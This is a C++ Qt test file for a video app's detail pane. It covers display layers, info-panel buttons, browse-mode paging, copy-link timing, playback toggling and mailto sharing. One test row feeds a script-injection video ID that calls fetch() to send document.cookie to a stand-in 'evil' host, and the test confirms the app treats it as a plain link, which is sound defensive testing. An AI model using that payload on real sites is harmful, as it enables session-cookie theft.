#include "MacDetailView.h"
#include "AppSignals.h"
#include "CircleButton.h"
#include "DetailInfoPanel.h"
#include "Fonts.h"
#include "MacAppState.h"
#include "MacPlayer.h"
#include "PagingWebView.h"
#include "PillButton.h"
#include "PlayerController.h"
#include "WebEngineTestMain.h"

#include <QClipboard>
#include <QElapsedTimer>
#include <QEnterEvent>
#include <QGraphicsOpacityEffect>
#include <QLabel>
#include <QSettings>
#include <QTemporaryDir>
#include <memory>

using namespace clipvane;

namespace {

class FakePage : public PlayerPage
{
public:
    void runScript(const QString &script) override { scripts << script; }
    QStringList scripts;
};

Video record(const QString &id, bool readOnly = false)
{
    Video video(id, QStringLiteral("Never Gonna Give You Up (Official Video) — remastered in 4K"),
                QStringLiteral("https://www.youtube.com/watch?v=") + id, QStringLiteral("2009-10-25"),
                QStringLiteral("3:33"), false, QStringLiteral("web"), 0, 0, QStringLiteral("synced"));
    if (readOnly) {
        video.readOnly = true;
        video.ownerEmail = QStringLiteral("mum@example.org");
    }
    return video;
}

// A pane whose controller talks to a fake page instead of the web view's, so a test sets the
// player's state by hand.
struct Pane
{
    QTemporaryDir dir;
    QSettings standard{dir.filePath(QStringLiteral("s.ini")), QSettings::IniFormat};
    MacAppState state{standard};
    MacDetailView view{state, QUrl(QStringLiteral("about:blank"))};
    FakePage page;

    Pane()
    {
        view.resize(900, 640);
        state.player().attach(&page);
        state.player().pageReady();
    }
    PlayerController &player() { return state.player(); }
};

const QString kYouTubeID = QStringLiteral("dQw4w9WgXcQ");

} // namespace

class MacDetailViewTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { Fonts::load(); }

    // Each row sets the pane up by steps: "browse", "video ID", "load 0|1" (autoplay), "error CODE",
    // "state STATE".
    void layers_data()
    {
        QTest::addColumn<QString>("setup");
        QTest::addColumn<MacDetailView::Layer>("layer");
        QTest::addColumn<bool>("playerShown");
        QTest::addColumn<bool>("panelShown");
        const auto row = [](const char *name, const char *setup, MacDetailView::Layer layer, bool player, bool panel) {
            QTest::newRow(name) << QString::fromUtf8(setup) << layer << player << panel;
        };
        using L = MacDetailView::Layer;
        row("no video", "", L::empty, false, false);
        row("x- record", "video x-1712345678", L::linkNotice, false, true);
        row("hostile ID is a link", "video a');fetch('//evil/'+document.cookie);('", L::linkNotice, false, true);
        row("embeddable, idle", "video dQw4w9WgXcQ", L::player, true, true);
        row("loading", "video dQw4w9WgXcQ, load 0", L::loading, true, true);
        row("cannot embed", "video dQw4w9WgXcQ, load 1, error 150", L::cannotEmbed, true, true);
        row("loaded", "video dQw4w9WgXcQ, load 1, state 1", L::player, true, true);
        row("error on an x- record shows the link notice", "error 150, video x-1712345678", L::linkNotice, false, true);
        row("browse mode, loading", "browse, video dQw4w9WgXcQ, load 1", L::loading, true, true);
    }

    void layers()
    {
        QFETCH(QString, setup);
        QFETCH(MacDetailView::Layer, layer);
        Pane pane;
        for (const QString &step : setup.split(u", "_qs, Qt::SkipEmptyParts)) {
            const QString verb = step.section(u' ', 0, 0);
            const QString value = step.section(u' ', 1);
            if (verb == u"browse")
                pane.state.setBrowsing(true);
            else if (verb == u"video")
                pane.view.setVideo(record(value));
            else if (verb == u"load")
                pane.player().load(kYouTubeID, value == u"1");
            else if (verb == u"error")
                pane.player().handleError(value.toInt());
            else
                pane.player().handleState(value.toInt());
        }
        pane.view.show();
        QCOMPARE(pane.view.layer(), layer);
        QTEST(pane.view.player().isVisible(), "playerShown");
        QTEST(pane.view.infoPanel().isVisible(), "panelShown");
        // Exactly one notice or covering layer (or none over a plain player) is on show.
        const auto labels = pane.view.findChildren<QLabel *>();
        const auto shown = [&labels](const QString &text) {
            return std::any_of(labels.begin(), labels.end(),
                               [&text](const QLabel *label) { return label->text() == text && label->isVisible(); });
        };
        QCOMPARE(shown(u"Pick a video from the list"_qs), layer == MacDetailView::Layer::empty);
        QCOMPARE(shown(u"This entry isn't a standard YouTube link."_qs), layer == MacDetailView::Layer::linkNotice);
        QCOMPARE(shown(u"This video can't be played inside the app."_qs), layer == MacDetailView::Layer::cannotEmbed);
    }

    void panel_data()
    {
        QTest::addColumn<Video>("video");
        QTest::addColumn<bool>("browsing");
        QTest::addColumn<QString>("facts"); // separated by " "
        QTest::addColumn<QString>("buttons");
        const QString all = u"Open in YouTube | Copy link | Share | Edit | Exclude | Delete"_qs;
        const QString browse = u"Open in YouTube | Copy link | Share"_qs;
        const QString facts = u"[globe] 2009-10-25 · 3:33"_qs;

        QTest::newRow("own record") << record(kYouTubeID) << false << facts << all;
        Video excluded = record(kYouTubeID);
        excluded.excluded = true;
        QTest::newRow("excluded offers Include")
            << excluded << false << facts << u"Open in YouTube | Copy link | Share | Edit | Include | Delete"_qs;
        QTest::newRow("shared record") << record(kYouTubeID, true) << false
                                       << facts + u" · [person.2.fill] Shared by mum@example.org"_qs << browse;
        QTest::newRow("browse mode") << record(kYouTubeID) << true << facts << browse;
        Video noLength = record(kYouTubeID);
        noLength.duration.clear();
        noLength.source = QStringLiteral("telegram");
        QTest::newRow("no length, from Telegram") << noLength << false << u"[paperplane.fill] 2009-10-25"_qs << all;
    }

    void panel()
    {
        QFETCH(Video, video);
        QFETCH(bool, browsing);
        Pane pane;
        pane.state.setBrowsing(browsing);
        pane.view.setVideo(video);
        QCOMPARE(pane.view.infoPanel().titleText(), video.title);
        QTEST(pane.view.infoPanel().factsTexts().join(u' '), "facts");
        QTEST(pane.view.infoPanel().visibleButtons().join(u" | "_qs), "buttons");
        QCOMPARE(pane.view.infoPanel().height(), browsing ? 92 : 112);
    }

    void browseControls_data()
    {
        QTest::addColumn<int>("index");
        QTest::addColumn<int>("total");
        QTest::addColumn<bool>("previous");
        QTest::addColumn<bool>("next");
        QTest::addColumn<QString>("counter");
        QTest::newRow("only video") << 0 << 1 << false << false << u"1 of 1"_qs;
        QTest::newRow("first of five") << 0 << 5 << false << true << u"1 of 5"_qs;
        QTest::newRow("third of twelve") << 2 << 12 << true << true << u"3 of 12"_qs;
        QTest::newRow("last of five") << 4 << 5 << true << false << u"5 of 5"_qs;
    }

    void browseControls()
    {
        QFETCH(int, index);
        QFETCH(int, total);
        QFETCH(bool, previous);
        QFETCH(bool, next);
        Pane pane;
        QList<int> pages;
        pane.view.setOnPage([&pages](int direction) { pages << direction; });
        pane.view.setVideo(record(kYouTubeID));
        pane.view.setPosition({index, total});
        // The wheel and the keys page over the player only in browse mode.
        QVERIFY(!pane.view.player().webView().isPaging());
        pane.state.setBrowsing(true);
        QVERIFY(pane.view.player().webView().isPaging());
        pane.view.show();
        QTEST(pane.view.positionText(), "counter");
        const auto buttons = pane.view.findChildren<CircleButton *>();
        QCOMPARE(buttons.size(), 3); // previous, next, close
        QCOMPARE(buttons.at(0)->isEnabled(), previous);
        QCOMPARE(buttons.at(1)->isEnabled(), next);
        buttons.at(0)->click();
        buttons.at(1)->click();
        QCOMPARE(pages, (QList<int>{-1, +1}.mid(previous ? 0 : 1, int(previous) + int(next))));
        pane.view.setOnPage({});
        QVERIFY(!pane.view.player().webView().isPaging());
    }

    // In browse mode the controls show while the pointer is over the pane; Escape and the close
    // button leave the mode.
    void browseModeControlsAndLeaving()
    {
        Pane pane;
        pane.view.setVideo(record(kYouTubeID));
        pane.state.setBrowsing(true);
        pane.view.show();
        pane.view.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&pane.view));
        const auto effects = pane.view.findChildren<QGraphicsOpacityEffect *>();
        QCOMPARE(effects.size(), 3);
        QCOMPARE(effects.at(0)->opacity(), 0.0);
        QEnterEvent enter(QPointF(10, 10), QPointF(10, 10), QPointF(10, 10));
        QApplication::sendEvent(&pane.view, &enter);
        QTRY_COMPARE(effects.at(2)->opacity(), 1.0);
        QEvent leave(QEvent::Leave);
        QApplication::sendEvent(&pane.view, &leave);
        QTRY_COMPARE(effects.at(0)->opacity(), 0.0);

        CircleButton *close = pane.view.findChildren<CircleButton *>().at(2);
        QVERIFY(close->isVisible());
        QTest::keyClick(&pane.view, Qt::Key_Escape);
        QVERIFY(!pane.state.browsing());
        QVERIFY(!close->isVisible());
        pane.state.setBrowsing(true);
        close->click();
        QVERIFY(!pane.state.browsing());
    }

    // Copy link reads "Copied" for one and a half seconds from the first press; Edit and Delete
    // write the window's state.
    void panelButtons()
    {
        Pane pane;
        Video video = record(kYouTubeID);
        video.url = QStringLiteral("https://youtu.be/dQw4w9WgXcQ?t=42");
        pane.view.setVideo(video);
        QHash<QString, PillButton *> pills;
        for (PillButton *button : pane.view.findChildren<PillButton *>())
            pills.insert(button->text(), button);
        PillButton *copy = pills.value(u"Copy link"_qs);
        copy->click();
        QCOMPARE(QApplication::clipboard()->text(), video.url);
        QCOMPARE(copy->text(), u"Copied"_qs);
        QCOMPARE(copy->symbol(), u"checkmark"_qs);
        QTest::qWait(700);
        copy->click();
        QElapsedTimer sinceSecond;
        sinceSecond.start();
        QTRY_COMPARE_WITH_TIMEOUT(copy->text(), u"Copy link"_qs, 3000);
        // The first press's reset ended it, not the second's.
        QVERIFY2(sinceSecond.elapsed() < 1400, qPrintable(QString::number(sinceSecond.elapsed())));
        QCOMPARE(copy->symbol(), u"doc.on.doc"_qs);

        pills.value(u"Edit"_qs)->click();
        pills.value(u"Delete"_qs)->click();
        QCOMPARE(pane.state.editingID(), std::optional<QString>(kYouTubeID));
        QCOMPARE(pane.state.pendingDeleteID(), std::optional<QString>(kYouTubeID));
    }

    // The command toggles playback whatever the video; changing or clearing the selection never
    // pauses.
    void playbackFollowsOnlyTheCommand()
    {
        Pane pane;
        Q_EMIT AppSignals::instance().macTogglePlayback();
        QVERIFY(pane.player().isPlaying());
        Q_EMIT AppSignals::instance().macTogglePlayback();
        QVERIFY(!pane.player().isPlaying());
        pane.view.setVideo(record(kYouTubeID));
        pane.player().load(kYouTubeID, true);
        pane.view.setVideo(std::nullopt);
        pane.view.setVideo(record(u"x-1712345678"_qs));
        QVERIFY(pane.player().isPlaying());
        QCOMPARE(pane.page.scripts, (QStringList{u"play()"_qs, u"pause()"_qs, u"loadVideo(\"dQw4w9WgXcQ\")"_qs}));
    }

    // A link that is no web address is shared as the short link; the mail's subject is encoded.
    void shareByMail()
    {
        Video video = record(kYouTubeID);
        video.url = u"::"_qs;
        const QUrl mail = MacDetailView::mailAddress(u"A & B?"_qs, MacDetailView::shareAddress(video));
        QCOMPARE(mail.scheme(), u"mailto"_qs);
        QVERIFY(mail.toString(QUrl::FullyEncoded).contains(u"subject=A%20%26%20B%3F"));
        QVERIFY(mail.toString(QUrl::FullyEncoded).contains(u"body=https%3A%2F%2Fyoutu.be%2FdQw4w9WgXcQ"));
    }
};

CLIPVANE_WEBENGINE_TEST_MAIN(MacDetailViewTest)
#include "MacDetailViewTest.moc"
